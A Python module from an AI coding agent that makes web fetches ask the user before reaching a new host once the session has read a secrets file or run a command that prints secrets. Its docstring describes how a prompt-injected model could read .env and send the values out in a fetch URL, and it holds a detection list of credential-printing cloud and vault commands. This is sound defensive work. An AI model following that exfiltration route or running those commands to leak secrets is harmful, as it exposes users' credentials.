"""Once a session has read a secrets file, or run a command that prints secrets, web_fetch
asks before it reaches a new host.

``read_file .env`` then ``web_fetch https://host/?d=<what it said>`` is how a prompt-injected
model sends a secret away with no question: web_fetch is read-only, so it runs freely. The
values the agent holds itself are refused in any URL (``iaccode/tools/web_fetch.py``); a file's
secrets are not known to us, so after a call that read one (:mod:`iaccode.secret_files`: ``.env*``,
``*.tfvars``, ``*.tfstate``, key and credentials files, any file in ``~/.kube``, ``~/.aws``
and the like, data files named for a secret) every web_fetch to a host the user has
not allowed in this session asks first, saying which file was read. The answer holds for that
host for the rest of the session; *Reject* refuses this fetch only. In ``bypass`` nothing asks
(there a command may ``curl`` as freely). The same for any other tool that reaches the open
world and would run without a question (an MCP server's fetch tool, read-only and open-world
by its annotations): the host of the first URL in its input, or the tool itself, is asked for.

What counts as reading one: a call of a tool that reads what it names
(``Tool.reads_what_it_names``: all but web_fetch and todo_write) whose input names such a file,
as a path or as a word of a command line (``cat .env``, ``source .envrc``, an MCP tool's
``{"path": "prod.tfvars"}``); whose path leads to one (``notes.txt``, a symlink to ``.env``:
the real paths the call was judged on); or whose output shows lines of one as grep prints them
(``.env:1:KEY=...``, ``./.env:KEY=...``: the grep tool searching the whole project, a
``grep -r`` the user allowed). A command that prints what a secret store or a cloud's login
holds counts as one (:data:`SECRET_COMMANDS`: ``aws secretsmanager get-secret-value``,
``gcloud auth print-access-token``, ``vault kv get``, ``kubectl get secret`` ...), by its words
in the input, wherever they stand in the line (``x=$(aws --profile p ssm get-parameter ...)``).
A session loaded again remembers it from its stored tool calls.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Iterator
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

from attrs import evolve, frozen

from iaccode.iac.shell import simple_commands
from iaccode.printable import visible
from iaccode.protocol.content import TextContent
from iaccode.protocol.tool_calls import ContentToolCallContent, PermissionOption, ToolCallFields
from iaccode.secret_files import is_secret_file

if TYPE_CHECKING:
    from iaccode.tools.base import Tool


SECRET_COMMANDS = tuple(
    tuple(line.split())
    for line in (
        "aws secretsmanager get-secret-value",
        "aws secretsmanager batch-get-secret-value",
        "aws ssm get-parameter",
        "aws ssm get-parameters",
        "aws ssm get-parameters-by-path",
        "aws ecr get-login-password",
        "aws ecr-public get-login-password",
        "aws eks get-token",
        "aws sts get-session-token",
        "aws sts get-federation-token",
        "aws sts assume-role",
        "aws sts assume-role-with-saml",
        "aws sts assume-role-with-web-identity",
        "aws configure get",
        "aws configure export-credentials",
        "aws ec2 get-password-data",
        "aws kms decrypt",
        "aws iam create-access-key",
        "aws rds generate-db-auth-token",
        "aws codeartifact get-authorization-token",
        "aws sso get-role-credentials",
        "aws s3 presign",  # a URL that is a key to the object
        "gsutil signurl",
        "gcloud storage sign-url",
        "gcloud auth print-access-token",
        "gcloud auth print-identity-token",
        "gcloud auth application-default print-access-token",
        "gcloud secrets versions access",
        "az account get-access-token",
        "az keyvault secret show",
        "az keyvault secret download",
        "az storage account keys list",
        "az storage account show-connection-string",
        "az acr credential show",
        "az storage account generate-sas",
        "az storage container generate-sas",
        "az storage blob generate-sas",
        "aliyun kms getsecretvalue",
        "vault kv get",
        "vault read",
        "vault token create",
        "vault print token",
        "kubectl get secret",
        "kubectl get secrets",
        "kubectl create token",
        "kubectl config view --raw",
        "pulumi stack output --show-secrets",
        "pulumi stack export --show-secrets",
        "pulumi config --show-secrets",
        "pulumi env open",  # the environment's values, its cloud credentials among them
        "sops -d",
        "sops --decrypt",
        "sops decrypt",
        "ansible-vault view",
        "ansible-vault decrypt",
        "op read",
        "op item get",
        "doppler secrets",
        "pass show",
        "gpg -d",
        "gpg --decrypt",
        "gh auth token",
        "git credential fill",
    )
)
"""Commands (any case) that print secrets: the program, then words that follow it in the same
command in this order, options and their values allowed between (``aws --profile p ssm
get-parameter``). A word matches itself or a path under it (``kubectl get secret/db``)."""
_BY_PROGRAM: dict[str, list[tuple[str, ...]]] = {}
""":data:`SECRET_COMMANDS` by their program: the words that must follow it."""
for program, *wanted in SECRET_COMMANDS:
    _BY_PROGRAM.setdefault(program, []).append(tuple(wanted))
del program, wanted
_PROGRAMS = re.compile(rf"(?<![\w.-])({'|'.join(map(re.escape, _BY_PROGRAM))})(?![\w.-])")
"""A string naming none of their programs is not read as a command line."""
_WORDS = re.compile(r"[^\s;|&<>()'\"`=,]+")
_GREP_LINE = re.compile(
    r"^(?:(?P<numbered>[^:\n]{1,1024}?):\d+(?:[:-]|$)|"
    r"(?P<recursive>\.{1,2}/[^:\n]{1,1024}?):)",
    re.MULTILINE,
)
"""A line of grep's output: ``PATH:LINE:`` (``-n``, the grep tool), ``PATH:COUNT``, or
``./PATH:`` (a recursive grep): the text after it is that file's."""
MAX_OUTPUT_CHARS = 1_000_000
"""Of a tool's output, the part looked at for grep's lines."""

ALLOW_HOST = "allow_host"
SEARCHED = "secretsFileSearched"
"""The key of a call's ``rawOutput`` that names the secrets file it searched (a loaded session
remembers it)."""


def _strings(data: Any) -> Iterator[str]:
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for value in data.values():
            yield from _strings(value)
    elif isinstance(data, list):
        for value in data:
            yield from _strings(value)


def secret_file_in(raw_input: Any) -> str | None:
    """The first secrets file a tool input names (a path, or a word of a command line)."""
    for text in _strings(raw_input):
        for word in _WORDS.findall(text) if len(text) < 100_000 else ():
            if is_secret_file(word):
                return str(word)
    return None


def secret_file_shown(output: str) -> str | None:
    """The first secrets file whose lines ``output`` shows as grep prints them."""
    for match in _GREP_LINE.finditer(output[:MAX_OUTPUT_CHARS]):
        path = match.group("numbered") or match.group("recursive")
        if is_secret_file(path):
            return path
    return None


def secret_file_reached(raw_input: Any, paths: Iterable[str] = ()) -> str | None:
    """The first secrets file a call reads by its input (:func:`secret_file_in`) or by the
    real paths it was judged on (a symlink named ``notes.txt`` that leads to ``.env``)."""
    return secret_file_in(raw_input) or next((p for p in paths if is_secret_file(p)), None)


def _follows(words: list[str], wanted: tuple[str, ...]) -> bool:
    """Whether ``wanted`` are among ``words`` in this order (others may stand between)."""
    rest = iter(words)
    return all(any(w == want or w.startswith(want + "/") for w in rest) for want in wanted)


def secret_command_in(raw_input: Any) -> str | None:
    """The first command that prints secrets (:data:`SECRET_COMMANDS`) a tool input names,
    as its words: ``aws secretsmanager get-secret-value``. Each string naming one of their
    programs is read as the shell would run it (:func:`simple_commands`: lists, pipelines,
    ``$( )``, ``sh -c`` strings, wrappers); the program may stand anywhere in a command (run by
    a wrapper the reader does not know: ``aws-vault exec p -- aws ...``)."""
    for text in _strings(raw_input):
        text = text.lower()
        if len(text) >= 100_000 or not _PROGRAMS.search(text):
            continue
        for command in simple_commands(text):
            words = _WORDS.findall(" ".join(command.words))  # --id=x, secret,configmap
            for i, word in enumerate(words):
                program = word.rsplit("/")[-1]  # by its name or a path (/usr/local/bin/aws)
                for wanted in _BY_PROGRAM.get(program, ()):
                    if _follows(words[i + 1 :], wanted):
                        return " ".join((program, *wanted))
    return None


@frozen
class SecretsRead:
    """What a call of the session read that holds secrets: a file, or a command's output."""

    what: str
    """The file as the call named it (``prod.tfvars``), or the command's words."""
    command: bool = False

    def described(self) -> str:
        if self.command:
            return f"the output of `{self.what}`, a command that prints secrets"
        return f"{self.what}, a file that holds secrets"

    def done(self) -> str:
        """What the session did, for a question's title: ``reading .env``."""
        return f"running {self.what}" if self.command else f"reading {self.what}"


def secrets_read(raw_input: Any, paths: Iterable[str] = ()) -> SecretsRead | None:
    """What secrets a call of a tool that reads what it names reads: a secrets file it names
    or reaches (:func:`secret_file_reached`), else a command that prints them."""
    if file := secret_file_reached(raw_input, paths):
        return SecretsRead(file)
    if command := secret_command_in(raw_input):
        return SecretsRead(command, command=True)
    return None


class Exposure:
    """What the session read that web_fetch must not carry away unasked (shared by the
    session's turns and sub-agents)."""

    def __init__(self) -> None:
        self.secrets: SecretsRead | None = None
        """The first secrets a call of the session read (None: none yet)."""
        self.hosts: set[str] = set()
        """Hosts the user let web_fetch reach since."""

    @classmethod
    def from_records(
        cls, records: Iterable[dict[str, Any]], reads_what_it_names: Callable[[str], bool]
    ) -> Exposure:
        """The exposure of a stored session: its stored tool calls, in order.
        ``reads_what_it_names`` says it of a tool by its stored name (the session's tools)."""
        exposure = cls()
        for record in records:
            start = record.get("start") if record.get("type") == "tool_call" else None
            if isinstance(start, dict) and reads_what_it_names(str(start.get("name") or "")):
                locations = start.get("locations")
                paths = (
                    [str(place.get("path")) for place in locations if isinstance(place, dict)]
                    if isinstance(locations, list)
                    else []
                )
                exposure.note(start.get("rawInput"), paths)
                end = record.get("end")
                if isinstance(end, dict):
                    exposure.note_output("\n".join(_strings(end.get("content"))))
                    searched = end.get("rawOutput")
                    if isinstance(searched, dict) and isinstance(searched.get(SEARCHED), str):
                        exposure.note_searched(searched[SEARCHED])
        return exposure

    def note(self, raw_input: Any, paths: Iterable[str] = ()) -> None:
        """A call of a tool that reads what it names ran (or was allowed to): remember the
        secrets it read, if any (a file by its input or by the real ``paths`` it was judged
        on, a command that prints them)."""
        if self.secrets is None:
            self.secrets = secrets_read(raw_input, paths)

    def note_output(self, output: str) -> None:
        """Such a call's output: remember the secrets file whose lines it shows, if any."""
        if self.secrets is None and (shown := secret_file_shown(output)):
            self.secrets = SecretsRead(shown)

    def note_searched(self, path: str) -> None:
        """Such a call searched a secrets file (:meth:`iaccode.tools.base.Tool.searched`)."""
        if self.secrets is None:
            self.secrets = SecretsRead(path)

    def host_to_ask(self, tool: Tool, args: Any, mode: str) -> str | None:
        """The host a call of a tool that reaches the open world (kind "fetch": web_fetch, an
        MCP server's fetch tool) must ask for (None: it may run as usual): its address
        (``Tool.address``), else the first URL in its input, else the tool itself."""
        if tool.kind != "fetch" or self.secrets is None or mode == "bypass":
            return None
        url = tool.address(args)
        if url is None:
            url = next((text for text in _strings(args) if "://" in text), None)
        host = _host(url) if url is not None else tool.name
        return None if host in self.hosts else host

    def reachable(self, host: str) -> bool:
        """Whether a request may reach ``host`` unasked (a redirect: ``ToolContext.reachable``)."""
        return self.secrets is None or host in self.hosts

    def question(
        self, fields: ToolCallFields, host: str, url: str | None = None
    ) -> tuple[ToolCallFields, list[PermissionOption]]:
        """The permission question for a fetch from ``host`` (of ``url``), and its options.
        The host as the network knows it too (``xn--pple-43d.com`` for a Cyrillic look-alike
        of apple.com), and the whole URL: what it carries is what the user judges."""
        assert self.secrets is not None  # host_to_ask gave a host
        shown_host = visible(host, one_line=True)
        if not host.isascii():
            try:
                shown_host += f" ({host.encode('idna').decode()})"
            except UnicodeError:
                shown_host += " (a name that is no valid host)"
        text = (
            f"This session read {self.secrets.described()}. This call sends a request to "
            f"{shown_host}, which could carry what it said away (in the URL). Allow it only if "
            "you trust the address."
            + (f"\n\n{visible(url)}" if url else "")
            + "\n\nA redirect to another host is not followed."
        )
        options = [
            PermissionOption(ALLOW_HOST, f"Allow {shown_host} for this session", "allow_always"),
            PermissionOption("reject_once", "Reject", "reject_once"),
        ]
        return evolve(
            fields,
            title=f"Fetch from {shown_host} after {self.secrets.done()}",
            content=[ContentToolCallContent(TextContent(text))],
        ), options


def _host(url: str) -> str:
    try:
        return (urlsplit(url.strip()).hostname or url).lower()
    except ValueError:
        return url.lower()
